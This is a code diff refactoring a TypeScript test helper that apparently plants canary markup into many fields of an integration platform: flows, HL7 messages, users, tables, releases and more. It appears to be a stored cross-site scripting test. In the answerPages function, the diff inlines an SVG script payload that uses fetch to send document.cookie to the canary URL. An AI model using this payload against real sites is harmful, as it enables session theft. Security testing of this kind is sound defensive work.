@@ -35,23 +35,49 @@ export interface Planted {
   replay: string;
   release: number;
   client: string;
-  /** Sends its message back as a page. */
-  mirror: string;
 }
 
-/** Writes the markup wherever a text can be written: by messages, by people, by partners. */
+/** What plants, and the markup as it comes next, all of it, and in one that fits a title. */
+interface Hand {
+  arena: Arena;
+  admin: Person;
+  operator: Person;
+  next(): string;
+  whole: string;
+  title: string;
+}
+
+const DEV = { environment: 'dev' };
+const keys = {
+  ...{ idempotency: [], order: null, correlation: 'id' },
+  business: [{ name: 'usage', path: 'id', class: 'open' }],
+};
+const plain = { ...keys, business: [], correlation: null };
+
+/** Writes the markup wherever a text can be written: by people, by messages, by partners. */
 export async function plantMarkup(arena: Arena, admin: Person, operator: Person): Promise<Planted> {
   const all = markups(arena.canaries.url);
-  const whole = all.join('\n');
   let turn = 0;
   const next = () => all[turn++ % all.length]!;
-  const tell = (method: string, path: string, json: unknown) => told(admin, method, path, json);
-
-  const keys = {
-    ...{ idempotency: [], order: null, correlation: 'id' },
-    business: [{ name: 'usage', path: 'id', class: 'open' }],
+  const hand = { arena, admin, operator, next, whole: all.join('\n'), title: brief(arena.canaries.url) };
+  await drawFlows(hand);
+  await answerPages(hand);
+  const stopped = await sendMessages(hand);
+  await namePeople(hand);
+  const client = await describeDoors(hand);
+  const release = await settleEnvironment(hand);
+  const again = await operate(hand, stopped);
+  const runOf = async (flow: string) => {
+    await arena.last(flow);
+    return (await listRuns(arena.stage.store, { ...DEV, flow, limit: 1 }))[0]!.id;
   };
-  const plain = { ...keys, business: [], correlation: null };
+  return {
+    ...{ flow: 'odd', client, release, ...again },
+    runs: { json: again.run, hl7: await runOf('segments'), text: await runOf('letters') },
+  };
+}
+
+async function drawFlows({ arena, admin, next, whole }: Hand): Promise<void> {
   const stops = 'console.log(message.id); throw new Error(message.id);';
   const nodes = [
     { ...node('in', 'trigger.http', { path: 'odd', keys }), name: next(), note: whole },
@@ -60,19 +86,10 @@ export async function plantMarkup(arena: Arena, admin: Person, operator: Person)
   ];
   const odd = flowOf('odd', nodes, ['in>code', 'code>send']);
   const box = { x: 0, y: 300, width: 300, height: 200 };
+  const sample = { kind: 'message' as const, node: 'in', contentType: 'application/json' };
   await arena.live({
-    ...odd,
-    name: next(),
-    description: whole,
-    fixtures: [
-      {
-        name: next(),
-        kind: 'message',
-        node: 'in',
-        contentType: 'application/json',
-        body: JSON.stringify({ id: whole }),
-      },
-    ] as never,
+    ...{ ...odd, name: next(), description: whole },
+    fixtures: [{ ...sample, name: next(), body: JSON.stringify({ id: whole }) }],
     layout: {
       ...odd.layout,
       frames: [{ id: 'frame', title: next(), ...box }],
@@ -80,126 +97,104 @@ export async function plantMarkup(arena: Arena, admin: Person, operator: Person)
     },
   });
   await told(admin, 'post', '/flows/odd/versions', { document: { ...odd, name: next() }, note: next() });
-  const file = node('drop', 'connector.file', {
-    folder: 'odd',
-    name: { template: '{{ name }}.json' },
-    badName: 'clean',
-  });
-  const segments = [node('in', 'trigger.mllp', { types: [] }), node('drop', 'connector.file', { folder: 'hl7' })];
-  await arena.live(flowOf('segments', segments, ['in>drop']));
-  const letters = [
-    node('in', 'trigger.http', { path: 'letters', format: 'text', keys: plain }),
-    node('drop', 'connector.file', { folder: 'letters' }),
-  ];
-  await arena.live(flowOf('letters', letters, ['in>drop']));
-  await arena.live(flowOf('named', [node('in', 'trigger.http', { path: 'named', keys }), file], ['in>drop']));
-  const mirror = {
-    ...{ path: 'mirror', method: 'POST', format: 'text', keys: plain },
-    answer: { mode: 'reply', timeoutS: 10 },
-  };
-  const page = {
-    headers: { 'Content-Type': 'text/html; charset=utf-8' },
-    body: { expr: '"<title>mirror</title>" & $' },
-  };
-  await arena.live(
-    flowOf('mirror', [node('in', 'trigger.http', mirror), node('back', 'connector.respond', page)], ['in>back']),
-  );
-  const image = {
-    headers: { 'Content-Type': 'image/svg+xml' },
-    body: { expr: JSON.stringify(svg(arena.canaries.url)) },
-  };
-  const drawn = { ...mirror, path: 'drawn', method: 'GET' };
-  await arena.live(
-    flowOf('drawn', [node('in', 'trigger.http', drawn), node('back', 'connector.respond', image)], ['in>back']),
-  );
-
-  const header = { 'x-correlation-id': next(), 'user-agent': next(), referer: next() };
-  await arena.post('odd', { id: next(), [next()]: whole, own: { $masked: 1, shape: next() } }, header);
-  const json = (await arena.last('odd')).stop!;
-  await arena.post('named', { id: 'file', name: next() });
-  await sendMllp(
-    arena.mllpPort,
-    Buffer.from(
-      `MSH|^~\\&|${all[0]}|B|C|D|20261118||ADT^A01|M1|P|2.5.1\rPID|1||7||${all[1]}^${all[2]}\rNTE|1||${whole.replaceAll('\n', '\\.br\\')}\r`,
-    ),
-  );
-  await arena.post('letters', `<?xml version="1.0"?><x>${whole}</x>`, { 'content-type': 'text/html' });
-
-  const environment = (await told(operator, 'get', '/environments/dev', undefined)).body as { settings: object };
-  await tell('put', '/environments/dev', {
-    ...{ title: brief(arena.canaries.url), colour: 'teal', protected: false },
-    settings: { ...environment.settings, variables: { SITE: next() } },
-  });
-  const column = { name: 'code', title: next(), type: 'text', required: true };
-  const definition = { name: 'odd', title: next(), description: whole.slice(0, 500), key: ['code'], effective: false };
-  await tell('post', '/tables', {
-    ...{ environment: 'dev', definition: { ...definition, columns: [column] }, note: next() },
-    rows: [{ line: 1, values: { code: next() } }],
-  });
-  await tell('post', '/users', {
-    email: 'odd@hospital.test',
-    name: next(),
-    role: 'viewer',
-    password: 'a password of somebody',
-  });
-  await tell('post', '/invitations', { email: 'guest@hospital.test', name: next(), role: 'viewer' });
-  await tell('post', '/service-accounts', { name: brief(arena.canaries.url), role: 'analyst' });
-  await tell('post', '/break-glass-accounts', { name: brief(arena.canaries.url) });
-  await tell('put', '/roles/odd', { title: brief(arena.canaries.url), sentence: next(), permissions: ['flow.see'] });
-  await tell('post', '/tokens', { name: next(), permissions: ['flow.see'] });
-  await tell('put', '/views', { screen: 'runs', name: brief(arena.canaries.url), query: { q: next() } });
-  const client = await tell('post', '/clients', {
-    ...{ environment: 'dev', name: next(), contact: next(), note: whole.slice(0, 500) },
-    doors: [{ flow: 'odd', node: 'in', rate: null, quota: null }],
-  });
-  const described = { owner: next(), domain: brief(arena.canaries.url), summary: whole.slice(0, 300) };
-  await tell('put', '/doors/odd/in', { environment: 'dev', settings: { ...noDoorSettings, ...described } });
-  await tell('post', '/policies/exceptions', {
-    environment: 'dev',
-    flow: 'odd',
-    node: 'in',
-    rule: 'bound',
-    reason: next(),
-    days: 3,
-  });
-  const release = await tell('post', '/releases', { environment: 'dev', flows: ['odd', 'named'], title: next() });
-  await admin.ask('post', `/releases/${String(release.body['number'])}/promotions`, {
-    environment: 'prod',
-    reason: next(),
-  });
-
-  await told(operator, 'put', '/quarantine/care', {
-    environment: 'dev',
-    quarantine: { ids: [json.id] },
-    owner: next(),
-    note: next(),
-  });
-  const replay = randomUUID();
-  await told(operator, 'post', '/replays', {
-    environment: 'dev',
-    quarantine: { ids: [json.id] },
-    id: replay,
-    reason: next(),
-    from: 'received',
-  });
-  const again = (await arena.last('odd')).stop!;
-  const runOf = async (flow: string) => {
-    await arena.last(flow);
-    return (await listRuns(arena.stage.store, { environment: 'dev', flow, limit: 1 }))[0]!.id;
-  };
-  return {
-    flow: 'odd',
-    runs: { json: again.run, hl7: await runOf('segments'), text: await runOf('letters') },
-    quarantined: again.id,
-    replay,
-    release: Number(release.body['number']),
-    client: String(client.body['id']),
-    mirror: 'mirror',
-  };
+  const write = (folder: string, more = {}) => node('drop', 'connector.file', { folder, ...more });
+  const named = { name: { template: '{{ name }}.json' }, badName: 'clean' };
+  for (const [flow, trigger, drop] of [
+    ['segments', node('in', 'trigger.mllp', { types: [] }), write('hl7')],
+    ['letters', node('in', 'trigger.http', { path: 'letters', format: 'text', keys: plain }), write('letters')],
+    ['named', node('in', 'trigger.http', { path: 'named', keys }), write('odd', named)],
+  ] as const) {
+    await arena.live(flowOf(flow, [trigger, drop], ['in>drop']));
+  }
 }
 
-export const svg = (beacon: string) =>
-  `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${beacon}/svg?'+document.cookie)</script></svg>`;
+/** Flows that answer with a page (`mirror`: what it was sent) and with a picture (`drawn`). */
+async function answerPages({ arena }: Hand): Promise<void> {
+  const waits = { format: 'text', keys: plain, answer: { mode: 'reply', timeoutS: 10 } };
+  const picture = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${arena.canaries.url}/svg?'+document.cookie)</script></svg>`;
+  for (const [path, method, type, expr] of [
+    ['mirror', 'POST', 'text/html; charset=utf-8', '"<title>mirror</title>" & $'],
+    ['drawn', 'GET', 'image/svg+xml', JSON.stringify(picture)],
+  ] as const) {
+    const back = node('back', 'connector.respond', { headers: { 'Content-Type': type }, body: { expr } });
+    await arena.live(flowOf(path, [node('in', 'trigger.http', { ...waits, path, method }), back], ['in>back']));
+  }
+}
+
+/** Answers what stopped. */
+async function sendMessages({ arena, next, whole }: Hand): Promise<string> {
+  const header = { 'x-correlation-id': next(), 'user-agent': next(), referer: next() };
+  await arena.post('odd', { id: next(), [next()]: whole, own: { $masked: 1, shape: next() } }, header);
+  const { stop } = await arena.last('odd');
+  await arena.post('named', { id: 'file', name: next() });
+  const [sender, family, given] = [next(), next(), next()];
+  const segments = [
+    `MSH|^~\\&|${sender}|B|C|D|20261118||ADT^A01|M1|P|2.5.1`,
+    `PID|1||7||${family}^${given}`,
+    `NTE|1||${whole.replaceAll('\n', '\\.br\\')}`,
+  ];
+  await sendMllp(arena.mllpPort, Buffer.from(`${segments.join('\r')}\r`));
+  await arena.post('letters', `<?xml version="1.0"?><x>${whole}</x>`, { 'content-type': 'text/html' });
+  return stop!.id;
+}
+
+async function namePeople({ admin, next, title }: Hand): Promise<void> {
+  const tell = (method: string, path: string, json: unknown) => told(admin, method, path, json);
+  const person = { name: next(), role: 'viewer', password: 'a password of somebody' };
+  await tell('post', '/users', { email: 'odd@hospital.test', ...person });
+  await tell('post', '/invitations', { email: 'guest@hospital.test', name: next(), role: 'viewer' });
+  await tell('post', '/service-accounts', { name: title, role: 'analyst' });
+  await tell('post', '/break-glass-accounts', { name: title });
+  await tell('put', '/roles/odd', { title, sentence: next(), permissions: ['flow.see'] });
+  await tell('post', '/tokens', { name: next(), permissions: ['flow.see'] });
+  await tell('put', '/views', { screen: 'runs', name: title, query: { q: next() } });
+}
+
+/** Answers a client. */
+async function describeDoors({ admin, next, whole, title }: Hand): Promise<string> {
+  const client = await told(admin, 'post', '/clients', {
+    ...{ ...DEV, name: next(), contact: next(), note: whole.slice(0, 500) },
+    doors: [{ flow: 'odd', node: 'in', rate: null, quota: null }],
+  });
+  const described = { owner: next(), domain: title, summary: whole.slice(0, 300) };
+  await told(admin, 'put', '/doors/odd/in', { ...DEV, settings: { ...noDoorSettings, ...described } });
+  return String(client.body['id']);
+}
+
+/** Answers a release. */
+async function settleEnvironment({ admin, next, whole, title }: Hand): Promise<number> {
+  const tell = (method: string, path: string, json: unknown) => told(admin, method, path, json);
+  const { settings } = (await tell('get', '/environments/dev', undefined)).body as { settings: object };
+  await tell('put', '/environments/dev', {
+    ...{ title, colour: 'teal', protected: false },
+    settings: { ...settings, variables: { SITE: next() } },
+  });
+  const column = { name: 'code', title: next(), type: 'text', required: true };
+  const table = { name: 'odd', title: next(), description: whole.slice(0, 500), key: ['code'], effective: false };
+  await tell('post', '/tables', {
+    ...{ ...DEV, definition: { ...table, columns: [column] }, note: next() },
+    rows: [{ line: 1, values: { code: next() } }],
+  });
+  const exception = { flow: 'odd', node: 'in', rule: 'bound', reason: next(), days: 3 };
+  await tell('post', '/policies/exceptions', { ...DEV, ...exception });
+  const release = await tell('post', '/releases', { ...DEV, flows: ['odd', 'named'], title: next() });
+  const number = Number(release.body['number']);
+  await admin.ask('post', `/releases/${number}/promotions`, { environment: 'prod', reason: next() });
+  return number;
+}
+
+/** Answers what was replayed and stopped again. */
+async function operate(
+  { arena, operator, next }: Hand,
+  stopped: string,
+): Promise<Pick<Planted, 'quarantined' | 'replay'> & { run: string }> {
+  const quarantine = { ids: [stopped] };
+  await told(operator, 'put', '/quarantine/care', { ...DEV, quarantine, owner: next(), note: next() });
+  const replay = randomUUID();
+  await told(operator, 'post', '/replays', { ...DEV, quarantine, id: replay, reason: next(), from: 'received' });
+  const { stop } = await arena.last('odd');
+  return { replay, quarantined: stop!.id, run: stop!.run };
+}
 
 async function told(who: Person, method: string, path: string, json: unknown): Promise<Told> {
   const answer = await who.ask(method, path, json);
